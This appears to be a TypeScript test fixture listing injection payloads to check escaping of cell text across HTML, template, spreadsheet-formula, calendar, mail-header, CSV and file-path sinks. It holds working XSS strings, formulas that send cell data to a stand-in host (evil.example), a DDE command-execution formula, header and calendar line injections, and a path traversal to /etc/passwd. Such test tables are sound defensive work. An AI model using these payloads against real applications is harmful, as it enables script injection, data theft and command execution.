// Text that somebody might put into a cell so that it becomes code where it is shown. The same table is tried at every sink.

/** Leaves its mark if it is ever run as script. */
const run = 'globalThis.pwned=1';

export const payloads: Record<string, string> = {
  'script element': `<script>${run}</script>`,
  'event handler': `<img src=x onerror="${run}">`,
  'out of an attribute': `"><svg onload=${run}>`,
  'out of a single quote': `' onfocus='${run}' autofocus='`,
  'out of a title': `</title></style></textarea><script>${run}</script>`,
  'script address': `javascript:${run}`,
  'data address': `data:text/html,<script>${run}</script>`,
  'out of a string': `';${run};//`,
  'out of a template string': `\`\${${run}}`,
  'template of HtmlService': `<?!= ${run} ?>`,
  'template of a library': `{{constructor.constructor('${run}')()}}`,
  'comment and CDATA': `<!--><![CDATA[<script>${run}</script>]]>`,
  'entities that are decoded twice': `&lt;script&gt;${run}&lt;/script&gt;`,
  'formula that sends cells away': '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  'formula with a link': '=HYPERLINK("https://evil.example/","巡り")',
  'formula after plus': '+IMPORTDATA("https://evil.example/")',
  'formula after minus': '-1+IMAGE("https://evil.example/x.png")',
  'formula after at': '@SUM(A1:A9)',
  'formula after a tab': '\t=IMPORTDATA("https://evil.example/")',
  'formula after a line break': '\r\n=IMPORTDATA("https://evil.example/")',
  'formula after a space': ' =IMPORTDATA("https://evil.example/")',
  'formula in full width': '＝IMPORTDATA("https://evil.example/")',
  'formula after an apostrophe': '\'=IMPORTDATA("https://evil.example/")',
  'program of a spreadsheet': "=cmd|'/C calc'!A0",
  'out of a formula’s string': '","x")&IMPORTDATA("https://evil.example/")&("',
  'line of a calendar': 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nATTENDEE:mailto:evil@example.com',
  'line of a calendar, one sign': 'x\nATTACH:https://evil.example/\rURL:https://evil.example/',
  'signs of a calendar': 'a;b,c\\n\\;d:e',
  'header of a mail': 'a\r\nBcc: evil@example.com\r\n\r\n<b>',
  'header of a mail, other line ends': 'a\u2028Bcc: evil@example.com\u0085X: y\u0000z',
  'row of a CSV': '"x"\r\n"=1+1","y"',
  'path of a file': '../../../etc/passwd\u0000.html',
  'turned direction': '\u202egnp.exe\u202c',
  'name of a built-in property': '__proto__',
};

export const payloadNames = Object.keys(payloads);
